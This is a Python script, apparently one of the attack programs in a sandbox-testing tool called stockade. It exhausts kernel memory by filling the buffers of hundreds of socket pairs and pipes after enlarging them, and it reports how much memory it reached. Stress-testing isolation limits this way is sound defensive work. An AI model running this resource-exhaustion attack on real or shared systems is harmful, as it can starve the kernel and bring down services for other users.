"""Fills the buffers of sockets and pipes: memory of the kernel, not of a process."""

import fcntl
import os
import socket

from stockade.cli.attack.programs.kit import reached, run

F_SETPIPE_SZ = 1031


def attack() -> None:
    total = 0
    held = []
    for _ in range(230):
        pair = socket.socketpair()
        held.append(pair)
        pair[0].setblocking(False)
        pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        total += _fill(pair[0].fileno())
        _, end = os.pipe()
        os.set_blocking(end, False)
        try:
            fcntl.fcntl(end, F_SETPIPE_SZ, 1 << 20)
        except OSError:
            pass
        total += _fill(end)
        reached(total)


def _fill(descriptor: int) -> int:
    total = 0
    try:
        while True:
            total += os.write(descriptor, b"x" * 65536)
    except OSError:
        return total


if __name__ == "__main__":
    run(attack)
